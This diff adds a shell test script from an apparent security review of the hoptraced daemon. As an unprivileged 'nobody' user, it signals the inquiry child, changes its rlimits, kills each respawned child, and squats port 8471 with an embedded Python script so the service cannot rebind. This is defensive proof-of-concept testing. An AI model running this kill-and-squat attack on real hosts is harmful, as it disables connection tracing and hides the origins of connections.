@@ -1,0 +1,109 @@
+#!/bin/sh
+# attack_review_fleet_child_uid — issue 11 review, attacker (b): an unprivileged
+# local user on a fleet host. The inquiry child drops to [inquiry] user
+# "hoptrace", which nothing creates (packaging/debian/hoptrace.postinst, the
+# testbed), so privsep.c ps_drop() falls back to "nobody": the child then runs
+# as the very uid daemons and attackers commonly have. As nobody on h1:
+#   1. kill(child, 0) / SIGSTOP / SIGKILL are allowed (same real uid);
+#   2. prlimit(child, RLIMIT_NOFILE) is allowed (same uids and gids);
+#   3. nobody kills the child once and binds :8471 itself (a port > 1024,
+#      SO_REUSEADDR) in the gap before the respawn (or once kills have used up
+#      [inquiry] max_restarts, 5 a minute): every new child exits with
+#      "Address already in use", and h2's chain through h1 ends
+#      incomplete: the upstream origin behind h1 is hidden (or, with
+#      @incomplete reject, every chain through h1 is refused).
+# Chain: ssh h1 -> h2 -> h3; h2's collector is asked about h2's connection to
+# h3. Prints FAIL-CASE lines for each step that works on today's code.
+. "${HT_TOP:-$(cd "$(dirname "$0")/../.." && pwd)}/tests/lib/testbed.sh"
+tb_init "$@"
+tb_need setpriv ssh prlimit
+INQ="$TB_PY $TB_LIB/inqtool.py"
+H1=10.232.0.1 H2=10.232.0.2 H3=10.232.0.3
+tb_switch
+for h in 1 2 3; do
+	tb_host h$h 10.232.0.$h
+	tb_sshd h$h
+	tb_collector h$h
+done
+tb_preload on
+
+fails=0
+ok() { echo "ok   $*"; }
+bad() { echo "FAIL-CASE $*"; fails=$((fails + 1)); }
+A=$TB_T/a.json
+ATK=$TB_T/atk
+mkdir -p "$ATK" && chmod 0755 "$ATK"
+NOBODY="setpriv --reuid nobody --regid nogroup --clear-groups"
+
+tb_log "setup: ssh h1 -> h2 -> h3"
+tb_bg h1 ssh $H2 "ssh $H3 sleep 300"
+p=$(tb_wait_pid h2 "^ssh $H3" 10) || tb_fail "no ssh to h3 on h2"
+c=""; i=0
+while [ -z "$c" ] && [ $i -lt 50 ]; do
+	c=$(tb_exec h2 ss -Htnp state established "( dst $H3 and dport = :22 )" 2>/dev/null |
+		grep "pid=$p," | awk '{print $3, $4}' | head -n 1)
+	i=$((i + 1)); sleep 0.1
+done
+[ -n "$c" ] || tb_fail "ssh on h2 did not connect to h3"
+set -- $c; L=$1 R=$2
+who_h2() { out=$(tb_exec h2 $INQ who "$L" "$R" "$1"); echo "${out#* }" >"$A"; }
+who_h2 1500
+tb_assert_chain "$A" --origin h1 --complete -q && ok "baseline: complete from h1" ||
+	{ head -c 600 "$A"; tb_fail "baseline not complete from h1"; }
+
+child=$(tb_pid_of h1 'hoptraced -X') || tb_fail "no inquiry child on h1"
+cuid=$(awk '/^Uid:/ {print $2}' /proc/$child/status)
+tb_log "h1's inquiry child $child runs as uid $cuid ($(getent passwd "$cuid" | cut -d: -f1))"
+
+# 1. signals
+if tb_exec h1 $NOBODY kill -0 "$child" 2>/dev/null; then
+	bad "nobody may signal h1's inquiry child (uid $cuid): kill -STOP/-KILL work"
+else
+	ok "nobody cannot signal the inquiry child"
+fi
+# 2. resource limits of the child
+if tb_exec h1 $NOBODY prlimit --pid "$child" --nofile=8:8 2>"$ATK/prlimit.err"; then
+	bad "nobody may change h1's inquiry child's rlimits (prlimit --nofile)"
+else
+	ok "nobody cannot prlimit the inquiry child ($(head -c 200 "$ATK/prlimit.err"))"
+fi
+
+# 3. kill each new child until the restart cap, then squat :8471
+cat >"$ATK/squat.py" <<'PY'
+import socket, sys, time
+while True:
+    try:
+        s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
+        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
+        s.bind(("::", 8471)); s.listen(64); break
+    except OSError:
+        s.close(); time.sleep(0.01)
+open(sys.argv[1], "a").write("squatting :8471\n")
+while True:
+    c, _ = s.accept(); c.close()
+PY
+sqlog=$ATK/squat.log
+: >"$sqlog"; chmod 0666 "$sqlog"
+tb_bg h1 $NOBODY "$TB_PY" "$ATK/squat.py" "$sqlog"
+squat=$TB_LAST
+n=0 i=0
+while [ $i -lt 150 ] && ! grep -q "squatting" "$sqlog"; do
+	k=$(tb_pid_of h1 'hoptraced -X') && tb_exec h1 $NOBODY kill -KILL "$k" 2>/dev/null && n=$((n + 1))
+	i=$((i + 1)); sleep 0.1
+done
+i=0
+while ! grep -q "squatting" "$sqlog" && [ $i -lt 50 ]; do i=$((i + 1)); sleep 0.1; done
+tb_exec h1 ss -Hltnp 'sport = :8471' | sed 's/^/    h1 :8471 /'
+grep -q "squatting" "$sqlog" && bad "nobody holds h1:8471 after killing the inquiry child $n time(s): the new child cannot bind" ||
+	{ ok "nobody could not take h1:8471 ($n kills)"; tail -n 5 "$(tb_dir h1)"/bg*.log; ps -o pid,user,args -p "$squat"; }
+who_h2 1500
+if tb_assert_chain "$A" --origin h1 --complete -q; then
+	ok "h2's chain through h1 still complete"
+else
+	bad "h2's chain through h1 is no longer complete from h1 (origin behind h1 hidden; @incomplete decides)"
+fi
+tail -n 5 "$(tb_dir h1)/hoptraced.log" | sed 's/^/    h1: /'
+kill "$squat" 2>/dev/null
+[ $fails = 0 ] || { echo "$fails FAIL-CASE"; exit 1; }
+echo "all ok"
